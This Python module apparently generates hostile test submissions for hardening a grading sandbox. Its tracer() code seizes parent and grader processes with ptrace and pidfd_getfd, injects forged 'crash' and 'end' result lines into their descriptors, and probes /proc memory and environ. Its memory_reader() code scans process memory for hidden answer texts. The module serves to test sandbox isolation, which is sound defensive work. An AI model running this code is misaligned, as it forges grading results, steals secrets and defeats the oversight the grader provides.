"""Answers that reach for the processes and the memory around them, as text, and say what they got hold of."""

import json

from hostile import body

_FORGED_LINES = [
    f"{secret}{json.dumps(message)}"
    for secret in ("", "0" * 32 + ":")
    for message in (
        *({"exercise": "schedule", "part": part, "status": "crash", "text": ""} for part in ("linear", "cosine", "loop")),
        {"end": True},
        *({"exercise": "distillation_loss", "part": part, "status": "crash", "text": ""} for part in ("soft term", "whole")),
    )
]


def tracer() -> str:
    """An answer that takes hold of the processes that it descends from, speaks in their place, and says what it got hold of."""
    return body(
        f"""
import ctypes, os
libc, found = ctypes.CDLL(None, use_errno=True), []
libc.ptrace.argtypes = ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p
if libc.prctl(3, 0, 0, 0, 0) != 0: found.append('a parent that can be traced where the kernel has no Yama')
visible = [int(name) for name in os.listdir('/proc') if name.isdigit()]
above = [os.getppid()] if len(visible) > 50 else [os.getppid(), *range(1, 9)]  # more are not of a sandbox
for _ in range(4):  # with the one that grades, where it can be seen
    try: above.append(int(open(f'/proc/{{above[-1]}}/stat').read().rpartition(')')[2].split()[1]))
    except OSError: break
for pid in set(above) - {{0, os.getpid()}}:
    pidfd = libc.syscall(434, pid, 0)  # pidfd_open
    if pidfd < 0: continue
    for fd in range(64):
        taken = libc.syscall(438, pidfd, fd, 0)  # pidfd_getfd
        if taken < 0: continue
        found.append(f'descriptor {{fd}} of {{pid}}')
        os.set_blocking(taken, False)
        for line in {_FORGED_LINES!r}:
            try: os.write(taken, line.encode() + bytes([10]))
            except OSError: pass
    for name in ('mem', 'environ', 'fd/1'):
        try: os.close(os.open(f'/proc/{{pid}}/{{name}}', os.O_RDONLY))
        except OSError: continue
        found.append(f'/proc/{{pid}}/{{name}}')
    for request in (0x4206, 16):  # PTRACE_SEIZE, PTRACE_ATTACH
        if libc.ptrace(request, pid, None, None) == 0: found.append(f'ptrace {{request}} of {{pid}}')
raise ValueError('FOUND ' + repr(found))
"""
    )


def memory_reader(halves: list[tuple[str, str]], own: str) -> str:
    """An answer that reads the memory around its objects for texts, each given as two halves, and says which it found."""
    return body(
        f"""
import ctypes, os
own_text = {own!r}
libc, block, reach = ctypes.CDLL(None), 1 << 16, 1 << 27
class Vector(ctypes.Structure): _fields_ = [('base', ctypes.c_void_p), ('length', ctypes.c_size_t)]
libc.process_vm_readv.argtypes = [ctypes.c_int, *[ctypes.POINTER(Vector), ctypes.c_ulong] * 2, ctypes.c_ulong]
buffer, found, seen = ctypes.create_string_buffer(block), set(), set()
own = ctypes.addressof(buffer)
for middle in {{id(found) // block, id([0] * 10**4) // block, id(type) // block, own // block}}:
    for number in range(middle - reach // block, middle + reach // block):
        if number in seen or number * block <= own < (number + 1) * block: continue
        seen.add(number)
        size = libc.process_vm_readv(os.getpid(), Vector(own, block), 1, Vector(number * block, block), 1, 0)
        if size <= 0: continue
        text = buffer.raw[:size]
        for first, second in {halves!r}:
            at = text.find(first.encode())
            while at >= 0:
                if text[at + len(first):].startswith(second.encode()): found.add(first)
                at = text.find(first.encode(), at + 1)
raise ValueError(f'FOUND {{sorted(found)}} in {{len(seen)}}')
"""
    )
